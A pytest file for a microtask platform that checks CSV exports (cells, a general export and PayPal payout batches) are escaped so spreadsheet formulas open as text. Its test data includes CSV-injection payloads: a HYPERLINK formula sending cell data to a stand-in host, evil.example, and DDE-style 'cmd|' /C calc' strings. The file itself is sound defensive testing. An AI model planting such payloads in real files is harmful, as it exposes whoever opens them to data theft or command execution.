"""CSV injection (PL06): what the platform writes as CSV opens in a
spreadsheet as text, never as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest

from microwork.core.spreadsheets import csv_cell, csv_writer
from microwork.payouts import services

from .conftest import fund

MICROWORK = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'),
        ("+cmd@x", "'+cmd@x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("Photo du rayon biscuits", "Photo du rayon biscuits"),
        ("Prix : 3 € = 2 € + 1 €", "Prix : 3 € = 2 € + 1 €"),
        ("", ""),
    ],
)
def test_pl06_csv_cell_neutralises_formulas(typed, written):
    assert csv_cell(typed) == written


def test_pl06_csv_export_neutralises_formulas():
    # a display name, a mission title and a report answer as a user typed them
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["Nom", "Mission", "Réponse", "Montant"])
    writer.writerow(['=HYPERLINK("http://evil.example/?"&A1)', "+cmd@x", "@SUM(1+1)*cmd|' /C calc'!A0", -12])
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["Nom", "Mission", "Réponse", "Montant"]
    assert row[:3] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+cmd@x", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert row[3] == "-12"  # a number the platform computed is written as it is
    assert csv_cell(None) == ""


def test_pl06_paypal_batch_neutralises_an_email_that_looks_like_a_formula(alice, bob, staff):
    # given two taskers whose PayPal addresses start like formulas (both are valid addresses)
    fund(alice, 20_00)
    fund(bob, 10_00)
    for user, email, cents in ((alice, "=cmd@x.example", 20_00), (bob, "+cmd@x.example", 10_00)):
        account = services.payout_account_create(user=user, method="paypal", paypal_email=email)
        services.payout_request(user=user, amount_cents=cents, account=account)

    # when staff make the PayPal batch
    batch = services.payout_batch_create(by=staff, method="paypal")

    # then the file opens as text
    rows = list(csv.DictReader(io.StringIO(bytes(batch.export).decode())))
    assert sorted(row["Email"] for row in rows) == ["'+cmd@x.example", "'=cmd@x.example"]
    assert {row["Amount"] for row in rows} == {"20.00", "10.00"}


def test_pl06_every_csv_the_platform_writes_goes_through_one_function():
    """No module writes CSV with the bare `csv` writers: they go through
    `microwork.core.spreadsheets` (tests may, to build their input)."""
    bare = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(MICROWORK))
        for path in MICROWORK.rglob("*.py")
        if "tests" not in path.parts and path.name != "spreadsheets.py" and bare.search(path.read_text())
    ]
    assert offenders == []
